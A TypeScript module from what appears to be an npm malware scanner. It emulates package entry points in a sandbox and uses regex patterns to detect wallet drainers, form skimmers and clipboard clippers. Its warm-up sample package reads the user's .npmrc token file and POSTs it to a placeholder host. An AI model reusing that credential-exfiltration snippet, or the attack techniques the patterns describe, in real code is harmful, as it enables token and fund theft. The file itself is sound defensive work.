/**
 * The emulation engine, in whichever thread hosts the sandbox (normally the watchdog worker, see
 * ./index.ts): every entry × persona runs from the sandbox's memory snapshot (sandbox.ts), its trace lowers into effects.
 */
import { operationalError } from '../core/errors.js';
import type { Effect } from '../inspect/effects/types.js';
import { makeCanaries, PERSONAS, type Persona } from './canaries.js';
import { canaryMatchers, indexSources, lowerTrace } from './lower.js';
import { buildConfig, DEPLOYMENT_LABEL, DEPLOYMENTS, otherRegion, tunable, type Deployment, type EmulationEntry, type Kept, type Region } from './persona.js';
import { loadSandbox, runInSandbox, sandboxReady, type TraceEvent } from './sandbox.js';
import { prepareTypeScript } from './typescript.js';
import { monotonicMs } from '../core/clock.js';


/**
 * A budget is counted in interpreter work (sandbox.ts RunOutcome.work), not in time, so that a verdict does not depend
 * on how loaded the machine is. It is written in milliseconds of the reference machine: WORK_PER_MS units of work are
 * what the emulator does in one millisecond there (bench/emulate/work.mjs measures it: on this project's 2-core machine,
 * 0.3-2.6 units a millisecond by the kind of code, 0.9 the median of the recall corpus's runs that used up their
 * budget). Wall time is a safety net only: WALL_FACTOR times the budget (a page run's, at most), and for the package.
 */
export const WORK_PER_MS = 1;
export const WALL_FACTOR = 3;
/** What every run is charged besides its own work (restoring the snapshot, the prelude, lowering its trace), in reference ms. */
const RUN_CHARGE_MS = 2;

export interface EmulationBudget {
  /** Budget of one run (one entry as one persona), in reference ms of interpreter work. Default 400. */
  perFileMs?: number;
  /** Budget of the whole package (all entries × personas), in reference ms of work. Default 2400. */
  totalMs?: number;
  /** Memory limit of one sandbox runtime. Default 64 MiB. */
  memoryBytes?: number;
}

export interface EmulationInput {
  /** Package-relative POSIX path → text, already read by the engine. */
  files: Map<string, string>;
  /** package.json */
  manifest: Record<string, unknown>;
  entries: EmulationEntry[];
  budget?: EmulationBudget;
}

/** Code that names a browser wallet provider (window.ethereum, Phantom's window.solana, TronLink) and the page. */
const WALLET_PROVIDER = /\b(?:ethereum|phantom|solana|tronWeb|tronLink|coinbaseWalletExtension)\b/;
const PAGE = /\b(?:window|document|navigator|sessionStorage|localStorage)\b|(?:^|[^.\w$])addEventListener\s*\(/;
/** Code that listens to what a page's user types or submits and can send it (a form skimmer's two halves). */
const FORM_LISTENER = /addEventListener\s*\(\s*['"](?:input|change|blur|focusout|keyup|keydown|submit)['"]/;
const PAGE_SEND = /\bsendBeacon\b|\bfetch\s*\(|\bXMLHttpRequest\b|\bnew\s+Image\b|\bWebSocket\b/;
/** Code that reaches the page's clipboard (a clipper swaps the address the user copied for its own). */
const CLIPBOARD = /\bclipboard(?:Data)?\b|\bexecCommand\s*\(\s*['"]copy['"]|\baddEventListener\s*\(\s*['"]copy['"]/;
/** What a clipper looks for in what was copied: an address's shape (`{40}` hex digits, base58 lengths) or a chain's name. */
const ADDRESS_SHAPE = /\{40\}|\{(?:25|26|32|33),\s*(?:34|35|39|44|59|62)\}|\bbc1|bitcoin|ethereum|solana|\bwallet\b|\btron/i;
/** How many times the per-file budget a page run gets (index.ts's watchdog allows a run as long, and a second). */
export const BROWSER_RUN_FACTOR = 4;
/**
 * Names a drainer hides: javascript-obfuscator's (`_0x3b7d`), or a string table decoded with atob (the wallet names of
 * a drainer so hidden are not in its text).
 */
const HIDDEN_NAMES = /\b_0x[0-9a-f]{4,6}\b|\batob\s*\(/;

export interface EmulationRun {
  entry: string;
  persona: Persona;
  /** The run as a script of a web page (window, document, a wallet provider). */
  browser?: boolean;
  /** The run was on the other region (persona.ts Region): its locale and time zone. */
  region?: string;
  /** The run was repeated where its first run looked for (persona.ts Deployment): a CI runner, a production server. */
  deployment?: Deployment;
  /** The run was repeated with the state an earlier run kept (keptState): its next run, or a machine's after long use. */
  kept?: KeptRun;
  /** The words the command was run with, read off the usage its bare run printed (argsFromUsage). */
  args?: string[];
  status: 'done' | 'budget' | 'error';
  error?: string;
  ms: number;
}

export interface EmulationResult {
  effects: Effect[];
  runs: EmulationRun[];
  /** Some run stopped at a budget (or its trace hit the size cap): the effects are real but may be incomplete. */
  partial: boolean;
}

/** Where a run is, beyond its persona: a web page, the other region, a deployment, a later run with kept state. */
interface World {
  browser?: boolean;
  region?: Region;
  deployment?: Deployment;
  kept?: Kept & { run: KeptRun };
  /** Standard output is a terminal (a run whose first one looked for a terminal keeps one in its network runs). */
  tty?: boolean;
  /** The words a command was run with because its bare run printed how to run it (`argsFromUsage`). */
  invoked?: string[];
}

/**
 * The words to run a command with, read off the usage it printed when run bare (`usage: md-toc <file.md> [-i]`): each
 * placeholder in angle brackets before the first option, as a user fills it (a file of the named kind, a folder, an
 * address, a name). Undefined when the usage names no placeholder: a command that wants a subcommand is left alone.
 */
/** What an effect does, apart from where it was seen and how it reads: its kind and its object. */
function effectAct(e: Effect): string {
  return [e.kind, e.path ?? '', e.host ?? '', e.secret ?? '', e.location ?? '', e.mechanism ?? '', e.instruct ?? '', e.origin ?? ''].join('|');
}

export function argsFromUsage(usage: string): string[] | undefined {
  const m = /\busage:?\s+\S+((?:\s+(?:<[^<>\n]{1,40}>|\[[^\]\n]{0,60}\]|[a-z][\w-]*))*)/i.exec(usage);
  if (!m) return undefined;
  const words: string[] = [];
  for (const p of m[1].matchAll(/<([^<>\n]{1,40})>/g)) {
    const name = p[1].toLowerCase();
    const ext = /\.([a-z0-9]{1,5})\b/.exec(name)?.[1];
    words.push(ext ? `README.${ext === 'markdown' ? 'md' : ext}` : /dir|folder|path\b|root/.test(name) ? '.' : /url|uri|link|endpoint/.test(name) ? 'https://example.com/' : /file|input|src|source/.test(name) ? 'README.md' : /port/.test(name) ? '8080' : 'example');
    if (words.length >= 3) break;
  }
  return words.length ? words : undefined;
}

export type KeptRun = 'next run' | 'long use' | 'update';
const KEPT_LABEL: Record<KeptRun, string> = { 'next run': 'its next run, with the state the first kept', 'long use': 'after long use: thirteen weeks later, its counters far ahead', update: 'its first run after an update: the version it kept is an older one' };
/** A time a run kept (epoch milliseconds or seconds, an ISO date): a stamp of its first use. */
const KEPT_TIME = /\b1[6-9]\d{8}(?:\d{3})?\b|\b20\d\d-[01]\d-[0-3]\dT\d\d:/;
/** How far ahead a counter that grew from one run to the next is put for the run after long use. */
const LONG_USE_COUNT = 1000;
/** Thirteen weeks: the same weekday and hour (a weekday gate stays open), a season later (a date gate opens). */
const LONG_USE_MS = 13 * 7 * 86400000;
/** A file larger than this is a cache or an output, not a run's state. */
const MAX_KEPT_CHARS = 64 * 1024;

/**
 * What a run keeps for the next: the files outside the package it looked for (or read) and then wrote, as they are at
 * its end, over what it was given (`before`). A usage counter, a start count, a first-run stamp: code that acts only
 * from its fifth run, or from the gateway's third start, counts in such a file, and the entry runs again with it.
 */
export function keptState(events: TraceEvent[], before: ReadonlyMap<string, string> = new Map()): Map<string, string> {
  const looked = new Set<string>();
  const kept = new Map<string, string>();
  for (const e of events) {
    const path = typeof e.path === 'string' ? e.path : '';
    if (!path) continue;
    if (e.k === 'read' || e.k === 'probe') looked.add(path);
    else if (e.k === 'write' && looked.has(path) && !e.own && e.api !== 'symlinkSync' && typeof e.data === 'string') {
      const text = e.append ? (kept.get(path) ?? before.get(path) ?? '') + e.data : e.data;
      if (text.length < MAX_KEPT_CHARS) kept.set(path, text);
      else kept.delete(path);
    }
  }
  return kept;
}

/**
 * The state an older version of the code left: every version the run kept (a file holding only a version, or a
 * version-named field of a JSON file) set back to OLDER_VERSION, so the next run is the first after an update. Null
 * when the run kept no version.
 */
export function olderVersion(first: ReadonlyMap<string, string>): Map<string, string> | null {
  const VERSION = /^\s*v?\d+\.\d+\.\d+[\w.+-]*\s*$/;
  let changed = false;
  const out = new Map(first);
  for (const [path, text] of first) {
    if (VERSION.test(text)) {
      out.set(path, OLDER_VERSION);
      changed = true;
      continue;
    }
    try {
      const o: unknown = JSON.parse(text);
      if (!o || typeof o !== 'object' || Array.isArray(o)) continue;
      const back = Object.fromEntries(Object.entries(o).map(([k, v]) => [k, /version/i.test(k) && typeof v === 'string' && VERSION.test(v) ? OLDER_VERSION : v]));
      if (JSON.stringify(back) === JSON.stringify(o)) continue;
      out.set(path, JSON.stringify(back));
      changed = true;
    } catch {
      /* not JSON: kept as it is */
    }
  }
  return changed ? out : null;
}
const OLDER_VERSION = '0.0.1';

/**
 * The state after long use: every whole number that grew from one run's state to the next's (a count of runs,
 * starts or turns), LONG_USE_COUNT further on. Null when none grew (nothing counts).
 */
export function longUse(first: ReadonlyMap<string, string>, next: ReadonlyMap<string, string>, code = ''): Map<string, string> | null {
  let grew = false;
  // A count the code compares by remainder (`n % 7 === 3`: every seventh use from the third): the kept count is put
  // where the next use's count (one step on) has that remainder, as a fuzzer takes a comparison's operands.
  const every = /%\s*(\d{1,4})\s*={2,3}\s*(\d{1,4})\b/.exec(code);
  const ahead = (a: unknown, b: unknown): unknown => {
    if (typeof a === 'number' && typeof b === 'number') {
      if (!Number.isInteger(a) || !Number.isInteger(b) || b <= a || b - a > 100) return b;
      grew = true;
      const far = b + LONG_USE_COUNT;
      if (!every || Number(every[1]) < 2 || Number(every[2]) >= Number(every[1])) return far;
      const [n, k, step] = [Number(every[1]), Number(every[2]), b - a];
      return far + ((((k - far - step) % n) + n) % n);
    }
    if (a && b && typeof a === 'object' && typeof b === 'object' && !Array.isArray(a) && !Array.isArray(b)) {
      const out: Record<string, unknown> = {};
      for (const [k, v] of Object.entries(b)) out[k] = ahead((a as Record<string, unknown>)[k], v);
      return out;
    }
    return b;
  };
  const out = new Map(next);
  for (const [path, text] of next) {
    const was = first.get(path);
    if (was === undefined) continue;
    if (/^\s*\d{1,9}\s*$/.test(was) && /^\s*\d{1,9}\s*$/.test(text)) {
      const moved = ahead(Number(was), Number(text));
      out.set(path, String(moved));
      continue;
    }
    try {
      const moved = ahead(JSON.parse(was), JSON.parse(text));
      out.set(path, JSON.stringify(moved));
    } catch {
      /* not JSON: kept as it is */
    }
  }
  return grew ? out : null;
}

/**
 * 400 reference ms a run, six runs' worth a package. Counted in work, a run no longer gets what the machine's load leaves
 * it: a steganographic decode that needs 300-480 units of work (b69-fast-image-meta) reached its payload in some runs at
 * the old 250 ms deadline and not in others.
 */
export const DEFAULT_BUDGET: Required<EmulationBudget> = { perFileMs: 400, totalMs: 2400, memoryBytes: 64 * 1024 * 1024 };

/** Load the QuickJS wasm module (once per thread; again only if a run faulted the instance). */
export async function loadEngine(): Promise<void> {
  const fresh = !sandboxReady();
  await loadSandbox();
  if (fresh) warmUp();
}

/**
 * The first runs of a fresh instance are several times slower (the host's functions compile lazily as they run);
 * running a tiny package once here keeps that cost out of the first real package's budget.
 */
function warmUp(): void {
  const files = new Map([
    ['package.json', '{"name":"warm-up","version":"1.0.0"}'],
    ['index.js', "const fs = require('fs'), p = require('path'), os = require('os'); const t = fs.readFileSync(p.join(os.homedir(), '.npmrc'), 'utf8'); setTimeout(() => { fetch('https://warm.invalid/', { method: 'POST', body: Buffer.from(t).toString('base64') }); require('child_process').execSync('echo ' + os.platform()); }, 10); module.exports = function f(a) { return Buffer.from(String(a)).toString('hex') + fs.existsSync(p.join(__dirname, 'x')); };"],
  ]);
  try {
    for (let i = 0; i < 2; i++) emulateInThread({ files, manifest: { name: 'warm-up' }, entries: [{ file: 'index.js', reach: 'install' }, { file: 'index.js', reach: 'load' }], budget: { totalMs: 10000, perFileMs: 2000 } });
  } catch {
    /* warming up is best effort */
  }
}

/** Emulate a package's entries as every persona. `onRun` sees each run as it finishes (for streaming). */
export function emulateInThread(
  input: EmulationInput,
  onRun?: (run: EmulationRun, effects: Effect[]) => void,
  /** Called just before each real run starts (its entry's index in `input.entries`): the watchdog's bookkeeping. */
  onStart?: (entryIndex: number, persona: string) => void,
): EmulationResult {
  if (!sandboxReady()) throw operationalError('EEMULATOR', 'the emulator is not loaded', { hint: 'await loadEmulator() before emulatePackage()' });
  const budget = { ...DEFAULT_BUDGET, ...(input.budget ?? {}) };
  // Before the clock starts: the host's module loading is not the package's time.
  prepareTypeScript(input.files.keys());
  const start = monotonicMs();
  // The work the package's runs have done (and been charged), and what is left of its budget in reference ms; none once
  // the wall-clock safety net is passed.
  let used = 0;
  const left = (): number => (monotonicMs() - start > budget.totalMs * WALL_FACTOR ? 0 : budget.totalMs - used / WORK_PER_MS);
  const canaries = makeCanaries();
  const matchers = canaryMatchers(canaries);
  const src = indexSources(input.files);
  const esmPackage = input.manifest.type === 'module';
  const effects: Effect[] = [];
  const runs: EmulationRun[] = [];
  let partial = false;
  /** One run of an entry as a persona (or as a web page's script): its trace lowered and recorded; the trace's events. */
  const runOnce = (entryIndex: number, entry: EmulationEntry, rel: string, persona: Persona, remaining: number, world: World = {}): TraceEvent[] => {
    const { browser = false, region, deployment, kept, tty, invoked } = world;
    const cfg = { ...buildConfig(persona, { ...entry, file: rel }, input.files, input.manifest, canaries, region, deployment, kept), browser, ...(tty ? { tty } : {}) };
    onStart?.(entryIndex, persona);
    // The page run exists for its payment probe, which comes after the page's scripts have run: a drainer that picks
    // the look-alike address by edit distance through obfuscated accessors spent ~700 ms there.
    const perRun = browser ? budget.perFileMs * BROWSER_RUN_FACTOR : budget.perFileMs;
    const allowed = Math.min(perRun, remaining);
    // (the wall-clock net of any run stays within a page run's budget: index.ts's watchdog waits that long, and a second)
    const wallMs = Math.min(allowed * WALL_FACTOR, budget.perFileMs * BROWSER_RUN_FACTOR);
    const outcome = runInSandbox({ cfg, files: input.files, esmPackage, work: Math.round(allowed * WORK_PER_MS), wallMs, memoryBytes: budget.memoryBytes });
    used += outcome.work + RUN_CHARGE_MS * WORK_PER_MS;
    if (outcome.status === 'budget' || outcome.truncated) partial = true;
    let lowered = lowerTrace(outcome.events, { cfg, persona, reach: entry.reach, canaries, matchers, src });
    // An outage run is there for what code does when a request fails (a tuned one, for what it does with its settings
    // turned up): what it does as it did before is not said twice.
    if (deployment === 'outage' || deployment === 'failover' || deployment === 'offline' || deployment === 'tuned') {
      const before = new Set(effects.map((e) => JSON.stringify(e)));
      lowered = lowered.filter((e) => !before.has(JSON.stringify(e)));
    }
    if (browser) lowered = lowered.map((e) => ({ ...e, persona: 'browser', evidence: e.evidence.replace(`(${persona} persona)`, '(browser persona)') }));
    // (what the run on the other region does that no run before it did is done only there: gatedOn)
    if (region) {
      const before = new Set(effects.map(effectAct));
      lowered = lowered.map((e) => ({ ...e, evidence: e.evidence.replace(`(${persona} persona)`, `(${persona} persona, ${region.locale} ${region.timeZone})`), ...(before.has(effectAct(e)) ? {} : { gatedOn: 'region' as const }) }));
    }
    if (deployment) lowered = lowered.map((e) => ({ ...e, evidence: e.evidence.replace(`(${persona} persona)`, `(${persona} persona, ${DEPLOYMENT_LABEL[deployment]})`) }));
    if (kept) lowered = lowered.map((e) => ({ ...e, evidence: e.evidence.replace(`(${persona} persona)`, `(${persona} persona, ${KEPT_LABEL[kept.run]})`) }));
    if (invoked) lowered = lowered.map((e) => ({ ...e, evidence: e.evidence.replace(`(${persona} persona)`, `(${persona} persona, run as its usage says: ${invoked.join(' ')})`) }));
    effects.push(...lowered);
    const run: EmulationRun = { entry: rel, persona, ...(browser ? { browser } : {}), ...(region ? { region: `${region.locale} ${region.timeZone}` } : {}), ...(deployment ? { deployment } : {}), ...(kept ? { kept: kept.run } : {}), ...(invoked ? { args: invoked } : {}), status: outcome.status, ms: Math.round(outcome.ms * 10) / 10 };
    if (outcome.error) run.error = outcome.error;
    runs.push(run);
    onRun?.(run, lowered);
    return outcome.events;
  };
  for (const [entryIndex, entry] of input.entries.entries()) {
    const rel = entry.file.replace(/^\.\//, '');
    let looked = true;
    let probedPage = false;
    for (const persona of PERSONAS) {
      // A library or plugin entry that never looked at the platform (os.platform(), process.platform,
      // os.homedir(), platform-specific environment variables) behaves the same on every persona: one run.
      // Install-time entries always run as all three.
      if (persona !== PERSONAS[0] && !looked) continue;
      const remaining = left();
      if (!input.files.has(rel)) {
        const run: EmulationRun = { entry: rel, persona, status: 'error', error: 'entry file not in the package', ms: 0 };
        runs.push(run);
        onRun?.(run, []);
        continue;
      }
      if (remaining < 5 || !sandboxReady()) {
        partial = true;
        const run: EmulationRun = { entry: rel, persona, status: 'budget', error: sandboxReady() ? 'package budget exhausted' : 'sandbox unavailable', ms: 0 };
        runs.push(run);
        onRun?.(run, []);
        continue;
      }
      const events = runOnce(entryIndex, entry, rel, persona, remaining);
      // (A command run with a subcommand is the same: the bare command already ran as all three.)
      if (persona === PERSONAS[0]) looked = (entry.reach !== 'load' && !(entry.reach === 'bin' && entry.args?.length)) || events.some((e) => e.k === 'platform');
      probedPage ||= events.some((e) => e.k === 'page-probe');
      // A command run bare that printed how to run it runs again so (argsFromUsage): what it does for its user happens there.
      if (persona === PERSONAS[0] && entry.reach === 'bin' && !entry.args?.length) {
        const usage = events.find((e) => e.k === 'usage');
        const args = usage ? argsFromUsage(String(usage.text ?? '')) : undefined;
        const leftHere = left();
        if (args && leftHere >= 5 && sandboxReady()) runOnce(entryIndex, { ...entry, args }, rel, persona, leftHere, { invoked: args });
      }
      // A run that read the region runs again on the other one (persona.ts Region): a geofence opens there.
      const leftNow = left();
      if (events.some((e) => e.k === 'region') && leftNow >= 5 && sandboxReady()) runOnce(entryIndex, entry, rel, persona, leftNow, { region: otherRegion(input.files.get(rel) ?? '') });
      // A run that looked for a CI variable, or for NODE_ENV, that the developer's machine lacks runs again as a CI
      // runner, or as a production server; one that made an HTTP request, again with its servers failing and again with
      // the network down; a plugin whose settings have choices, with them turned up (persona.ts Deployment).
      if (persona === PERSONAS[0]) {
        // (code that waits for a terminal before it goes online: the network runs have the terminal, and go by what the
        // terminal run asked too)
        let asked = events;
        let tty = false;
        for (const deployment of DEPLOYMENTS) {
          const leftHere = left();
          const online = asked.some((e) => e.k === 'net' && e.ch === 'http');
          // (a failover run only where the package names a second server to fall back to)
          const looks = deployment === 'outage' || deployment === 'offline' ? online : deployment === 'failover' ? online && namesSeveralHosts(input.files) : deployment === 'tuned' ? entry.reach === 'load' && tunable(input.files) : events.some((e) => e.k === 'deployment' && e.place === deployment);
          const network = deployment === 'outage' || deployment === 'failover' || deployment === 'offline';
          if (!looks || leftHere < 5 || !sandboxReady()) continue;
          const seen = runOnce(entryIndex, entry, rel, persona, leftHere, { deployment, ...(tty && network ? { tty } : {}) });
          if (deployment === 'terminal') (asked = [...events, ...seen]), (tty = true);
        }
        // A run that kept state runs again with it; and, when a count in it grew, once more as after long use.
        const first = keptState(events);
        if (first.size && left() >= 5 && sandboxReady()) {
          const next = new Map([...first, ...keptState(runOnce(entryIndex, entry, rel, persona, left(), { kept: { files: first, laterMs: 0, run: 'next run' } }), first)]);
          // (when nothing counts but the state holds a time, a first use's stamp: the same state, weeks later)
          const later = longUse(first, next, input.files.get(rel) ?? '') ?? ([...next.values()].some((v) => KEPT_TIME.test(v)) ? next : null);
          if (later && left() >= 5 && sandboxReady()) runOnce(entryIndex, entry, rel, persona, left(), { kept: { files: later, laterMs: LONG_USE_MS, run: 'long use' } });
          // and, when it kept the version it ran as, once as the first run of a newer version (a migration step)
          const updated = olderVersion(first);
          if (updated && left() >= 5 && sandboxReady()) runOnce(entryIndex, entry, rel, persona, left(), { kept: { files: updated, laterMs: 0, run: 'update' } });
        }
      }
    }
    // Code that names an injected wallet, and a package's declared browser build (whose wallet names may be
    // spelled in character codes), run once more as a script of a web page whose user pays through it: a browser
    // build (a drainer appended to a library's bundle among them) returns at once where there is no window. So does
    // an entry that looked for a page (a module it loads, as in the chalk/debug compromise of September 2025) in a
    // package whose code names a wallet or hides its names, or reaches the clipboard beside an address's shape.
    const text = entry.reach === 'load' && input.files.has(rel) ? input.files.get(rel) ?? '' : '';
    const remaining = left();
    // (and code that listens to a form's fields and can send: the page run's user fills in a sign-in form)
    const clipper = (t: string): boolean => CLIPBOARD.test(t) && ADDRESS_SHAPE.test(t);
    const skimmer = (t: string): boolean => FORM_LISTENER.test(t) && PAGE_SEND.test(t);
    // (a declared browser build runs in pages whatever its text names: a UMD factory is handed the window as `this`)
    const page = entry.browser || ((WALLET_PROVIDER.test(text) || clipper(text) || skimmer(text)) && PAGE.test(text));
    if (text && (page || (probedPage && [...input.files.values()].some((t) => WALLET_PROVIDER.test(t) || HIDDEN_NAMES.test(t) || clipper(t) || skimmer(t)))) && remaining >= 5 && sandboxReady()) runOnce(entryIndex, entry, rel, PERSONAS[0], remaining, { browser: true });
  }
  return { effects, runs, partial };
}

/** Whether a package's code names two or more web servers (a main one and another to fall back to). Once per package. */
const SEVERAL_HOSTS = new WeakMap<Map<string, string>, boolean>();
function namesSeveralHosts(files: Map<string, string>): boolean {
  let v = SEVERAL_HOSTS.get(files);
  if (v === undefined) {
    const hosts = new Set<string>();
    for (const [rel, text] of files) {
      if (!/\.(?:c|m)?[jt]s$/i.test(rel)) continue;
      for (const m of text.matchAll(/['"`]https?:\/\/([\w.-]+)/g)) if (hosts.add(m[1].toLowerCase()).size >= 2) break;
      if (hosts.size >= 2) break;
    }
    SEVERAL_HOSTS.set(files, (v = hosts.size >= 2));
  }
  return v;
}
